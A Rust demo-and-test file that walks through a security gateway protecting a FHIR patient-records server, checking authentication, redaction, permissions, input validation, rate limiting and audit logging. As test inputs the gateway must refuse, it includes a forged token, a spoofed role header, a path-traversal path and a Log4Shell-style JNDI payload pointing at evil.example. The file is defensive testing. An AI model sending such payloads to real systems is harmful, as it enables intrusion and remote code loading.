//! The tour, step by step: a request, what was decided, and what it did to the answer.

use std::io;

use serde_json::{Value, json};

use crate::paper::{BAD, FAINT, GOOD, Paper, TITLE};
use crate::support::client::{Client, Protocol};
use crate::support::envoy::Envoy;
use crate::support::message::{End, Request, Response};
use crate::support::token::{Signer, Token, now, tampered};
use crate::support::upstream::Upstream;

const PATIENT: &str = "/fhir/Patient/pat-1";

/// What callers of the demo show.
pub(crate) struct Credentials {
    pub(crate) billing: &'static str,
    pub(crate) study: &'static str,
    pub(crate) physician: String,
    pub(crate) nurse: String,
    pub(crate) front_desk: String,
}

impl Credentials {
    pub(crate) fn new() -> Self {
        let token = |subject: &str, role: &str| with_roles(Token::smart(subject, &[]), &[role]).sign(Signer::Es256);
        Self {
            billing: "billing-test-key",
            study: "study-test-key",
            physician: token("dr-okafor", "physician"),
            nurse: token("nurse-lee", "nurse"),
            front_desk: token("desk-ruiz", "front-desk"),
        }
    }
}

/// Roles where the clinic's issuer puts them.
pub(crate) fn with_roles(token: Token, roles: &[&str]) -> Token {
    token.without("roles").claim("realm_access", json!({ "roles": roles }))
}

/// What a step has to come to.
enum Expected {
    /// The upstream's answer, with this status.
    Answer(u16),
    /// A refusal with this status and reason, of which the upstream never learns.
    Refusal(u16, &'static str),
}
use Expected::{Answer, Refusal};

pub(crate) struct Tour<'d> {
    paper: Paper,
    envoy: &'d Envoy,
    upstream: &'d Upstream,
    credentials: Credentials,
    steps: usize,
    wrong: usize,
}

impl<'d> Tour<'d> {
    pub(crate) fn new(paper: Paper, envoy: &'d Envoy, upstream: &'d Upstream, credentials: Credentials) -> Self {
        Self { paper, envoy, upstream, credentials, steps: 0, wrong: 0 }
    }

    /// Plays all steps; whether each came out as it should.
    pub(crate) fn play(mut self) -> io::Result<bool> {
        self.who_asks()?;
        self.what_they_see()?;
        self.what_they_may_do()?;
        self.what_a_request_must_be_like()?;
        self.how_often()?;
        self.what_is_recorded()?;
        let (steps, wrong) = (self.steps, self.wrong);
        let (style, end) = match wrong {
            0 => (GOOD, "each came out as it should".to_owned()),
            wrong => (BAD, format!("{wrong} did NOT come out as they should")),
        };
        self.paper.line(style, &format!("\n{steps} steps: {end}."))?;
        Ok(wrong == 0)
    }

    fn who_asks(&mut self) -> io::Result<()> {
        self.chapter("Who asks")?;
        self.step("What the server can do is for everyone", &Request::get("/fhir/metadata"), &Answer(200))?;
        self.step("A patient is not", &Request::get(PATIENT), &Refusal(401, "missing_credentials"))?;
        let request = Request::get(PATIENT).key("billing-guessed-key");
        self.step("A key that nobody was given", &request, &Refusal(401, "unknown_api_key"))?;
        let expired = with_roles(Token::smart("dr-okafor", &[]), &["physician"]);
        let expired = expired.claim("iat", now() - 7_000).claim("exp", now() - 3_600).sign(Signer::Es256);
        self.step("A token of an hour ago", &Request::get(PATIENT).bearer(&expired), &Refusal(401, "token_expired"))?;
        let promoted = tampered(&self.credentials.nurse, "realm_access", json!({ "roles": ["physician"] }));
        let title = "A nurse's token with `physician` written into it";
        self.step(title, &Request::get(PATIENT).bearer(&promoted), &Refusal(401, "bad_signature"))?;
        Ok(())
    }

    fn what_they_see(&mut self) -> io::Result<()> {
        self.chapter("What they see")?;
        let physician = Request::get(PATIENT).bearer(&self.credentials.physician);
        let response = self.step("A physician sees all of it, byte by byte", &physician, &Answer(200))?;
        let before = self.unguarded(PATIENT);
        self.check("the body is the server's own", response.body == before.body)?;

        let billing = Request::get(PATIENT).key(self.credentials.billing);
        let response = self.step("Billing sees it without what it has no need of", &billing, &Answer(200))?;
        self.paper.difference(&before.body, &response.body)?;
        self.check(
            "no name, no contact, no full number",
            !holds(&response, &["Haddad", "Amira", "555-", "078-05", "MRN-"]),
        )?;

        let forged = billing.header("x-carewarden-roles", "physician");
        self.step("… also when it says that it is a physician", &forged, &Answer(200))?;
        let seen = self.upstream.seen(PATIENT).pop();
        self.check(
            "the server was told `billing`",
            seen.is_some_and(|seen| seen.all("x-carewarden-roles") == ["billing"]),
        )?;

        let search = Request::get("/fhir/Patient?_count=10").key(self.credentials.billing);
        let response = self.step("A search is redacted in every entry", &search, &Answer(200))?;
        self.paper.difference(&self.unguarded(&search.path).body, &response.body)?;
        let found = serde_json::from_slice::<Value>(&response.body).unwrap_or_default()["entry"].as_array().map(Vec::len);
        self.check(
            "three patients, none by name",
            found == Some(3) && !holds(&response, &["Haddad", "Lindqvist", "Nakamura"]),
        )?;

        let export = Request::get("/export/Patient.ndjson").key(self.credentials.study);
        let response = self.step("An export is redacted line by line as it streams", &export, &Answer(200))?;
        let text = response.text();
        let first = text.lines().next().unwrap_or_default();
        let line = self.unguarded("/export/Patient.ndjson").text().lines().next().unwrap_or_default().to_owned();
        self.paper.difference(line.as_bytes(), first.as_bytes())?;
        self.check("600 patients or more, none by id", text.lines().count() >= 600 && !text.contains("pat-"))
    }

    fn what_they_may_do(&mut self) -> io::Result<()> {
        self.chapter("What they may do")?;
        let Credentials { billing, physician, nurse, .. } = &self.credentials;
        let steps = [
            ("A nurse reads a finding", Request::get("/fhir/Observation/obs-1").bearer(nurse), Answer(200)),
            ("… and no insurance", Request::get("/fhir/Coverage/cov-1").bearer(nurse), Refusal(403, "no_rule_allows")),
            ("… and deletes nothing", Request::new("DELETE", PATIENT).bearer(nurse), Refusal(403, "no_rule_allows")),
            (
                "`$everything` needs a rule that names it: a nurse has none",
                Request::get("/fhir/Patient/pat-1/$everything").bearer(nurse),
                Refusal(403, "no_rule_allows"),
            ),
            ("… a physician has", Request::get("/fhir/Patient/pat-1/$everything").bearer(physician), Answer(200)),
            (
                "Billing may not widen its search to findings",
                Request::get("/fhir/Patient?_revinclude=Observation:subject").key(billing),
                Refusal(403, "no_rule_allows"),
            ),
            (
                "… nor ask by name what it may not see",
                Request::get("/fhir/Patient?family=Doe").key(billing),
                Refusal(403, "search_not_granted"),
            ),
            (
                "The audit trail is read from the clinic's network only, whatever X-Forwarded-For says",
                Request::get("/fhir/AuditEvent/1").bearer(physician).header("x-forwarded-for", "10.20.0.5"),
                Refusal(403, "address_denied"),
            ),
        ];
        for (title, request, expected) in steps {
            self.step(title, &request, &expected)?;
        }
        Ok(())
    }

    fn what_a_request_must_be_like(&mut self) -> io::Result<()> {
        self.chapter("What a request must be like")?;
        let register = |body: &str| Request::post("/fhir/Patient", body).bearer(&self.credentials.front_desk);
        let large = format!(r#"{{"resourceType":"Patient","id":"{}"}}"#, "x".repeat(1 << 20));
        let escaped = Request::get("/fhir/Patient/..%2fAuditEvent%2f1").key(self.credentials.billing);
        let steps = [
            ("The front desk registers a patient", register(r#"{"resourceType":"Patient","active":true}"#), Answer(201)),
            (
                "A body that is not JSON",
                register(r#"{"resourceType":"Patient","active":tru"#),
                Refusal(400, "malformed_body"),
            ),
            (
                "A patient with what FHIR R4 does not have",
                register(r#"{"resourceType":"Patient","isAdmin":true}"#),
                Refusal(422, "not_fhir_shape"),
            ),
            (
                "A note that looks something up",
                register(r#"{"resourceType":"Patient","name":[{"text":"${jndi:ldap://evil.example/a}"}]}"#),
                Refusal(403, "injection_found"),
            ),
            (
                "… and a name that only looks like an attack",
                register(r#"{"resourceType":"Patient","name":[{"family":"O'Brien-Select","given":["Union"]}]}"#),
                Answer(201),
            ),
            ("A body of more than 1 MiB", register(&large), Refusal(413, "body_too_large")),
            ("A path that two readers read in two ways", escaped, Refusal(400, "ambiguous_path")),
            ("Another host", Request::get(PATIENT).host("other.example"), Refusal(404, "no_route")),
        ];
        for (title, request, expected) in steps {
            self.step(title, &request, &expected)?;
        }
        Ok(())
    }

    fn how_often(&mut self) -> io::Result<()> {
        self.chapter("How often")?;
        let client = self.envoy.client();
        let request = Request::get("/export/none").key(self.credentials.study);
        let flood = || (0..600).any(|_| client.send(Protocol::Http1, &request).status == 429);
        let refused = std::thread::scope(|scope| {
            let floods: Vec<_> = (0..4).map(|_| scope.spawn(flood)).collect();
            floods.into_iter().any(|flood| flood.join().unwrap_or(false))
        });
        self.steps += 1;
        self.paper.line(TITLE, &format!("\n{:>2}  A study asks faster than its share", self.steps))?;
        self.check("429 in the end, from the limit behind us that knows the client", refused)?;
        let other = Request::get(PATIENT).key(self.credentials.billing);
        self.step("… and nobody else has to wait for it", &other, &Answer(200))?;
        Ok(())
    }

    fn what_is_recorded(&mut self) -> io::Result<()> {
        self.chapter("What is recorded")?;
        self.steps += 1;
        self.paper.line(
            TITLE,
            &format!("\n{:>2}  Each exchange leaves a record, by the access log, with neither path nor name", self.steps),
        )?;
        let settled = self.envoy.prints("local_rate_limited");
        let log = self.envoy.output();
        let records: Vec<Value> = log.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok()).collect();
        let records: Vec<&str> = records.iter().filter_map(|line| line["audit"].as_str()).collect();
        for wanted in ["\"redacted\"", "token_expired", "\"operation\"", "address_denied"] {
            if let Some(record) = records.iter().find(|record| record.contains(wanted)) {
                self.paper.line(FAINT, &format!("    {record}"))?;
            }
        }
        let unspeakable = ["Haddad", "pat-1", "/fhir", self.credentials.billing, "dr-okafor"];
        let silent = unspeakable.iter().all(|word| !log.contains(word));
        self.check("as many records as steps, and nothing that names a patient", settled && records.len() >= 25 && silent)?;

        self.steps += 1;
        self.paper.line(TITLE, &format!("\n{:>2}  … and is counted", self.steps))?;
        let metrics = self.envoy.admin("/stats/prometheus");
        let ours = metrics.lines().filter(|line| line.starts_with("carewarden_requests{")).collect::<Vec<_>>();
        for line in &ours {
            self.paper.line(FAINT, &format!("    {line}"))?;
        }
        let counted = ours.iter().any(|line| line.contains("reason=\"token_expired\"") && line.ends_with(" 1"));
        self.check("one expired token", counted)
    }

    fn chapter(&self, title: &str) -> io::Result<()> {
        self.paper.line(TITLE, &format!("\n== {title}"))
    }

    /// Sends a request, prints what became of it, and notes whether that is as it should be.
    fn step(&mut self, title: &str, request: &Request, expected: &Expected) -> io::Result<Response> {
        self.steps += 1;
        let before = self.upstream.all_seen().len();
        let protocol = if self.steps.is_multiple_of(2) { Protocol::Http2 } else { Protocol::Http1 };
        let response = self.envoy.client().send(protocol, request);
        let asked = self.upstream.all_seen().len() > before;

        let reason = response.reason();
        let right = response.end == End::Whole
            && match expected {
                Answer(status) => response.status == *status && asked,
                Refusal(status, code) => response.status == *status && reason == *code && !asked,
            };
        self.paper.line(TITLE, &format!("\n{:>2}  {title}", self.steps))?;
        self.paper.line(FAINT, &format!("    {} {}{}", request.method, request.path, shown(request)))?;
        let decision = match expected {
            Answer(_) => format!("{} allowed", response.status),
            Refusal(..) => format!("{} refused: {reason}", response.status),
        };
        self.check(&decision, right)?;
        if !right {
            self.paper.line(BAD, &format!("{response:?}"))?;
        }
        Ok(response)
    }

    fn check(&mut self, claim: &str, holds: bool) -> io::Result<()> {
        self.wrong += usize::from(!holds);
        let (style, mark) = if holds { (GOOD, "ok   ") } else { (BAD, "WRONG") };
        self.paper.line(style, &format!("    {mark} {claim}"))
    }

    /// What the server answers to who asks it directly.
    fn unguarded(&self, path: &str) -> Response {
        Client::plain(self.upstream.address).send(Protocol::Http1, &Request::get(path))
    }
}

/// What a request brings along, with credentials cut short.
fn shown(request: &Request) -> String {
    let field = |(name, value): &(String, Vec<u8>)| {
        let value: String = String::from_utf8_lossy(value).chars().take(18).collect();
        let dots = if value.chars().count() == 18 { "…" } else { "" };
        format!("  {name}: {value}{dots}")
    };
    let body = request.body.as_ref().map_or_else(String::new, |body| format!("  ({} bytes)", body.len()));
    request.headers.iter().map(field).collect::<String>() + &body
}

fn holds(response: &Response, words: &[&str]) -> bool {
    let text = response.text();
    words.iter().any(|word| text.contains(word))
}
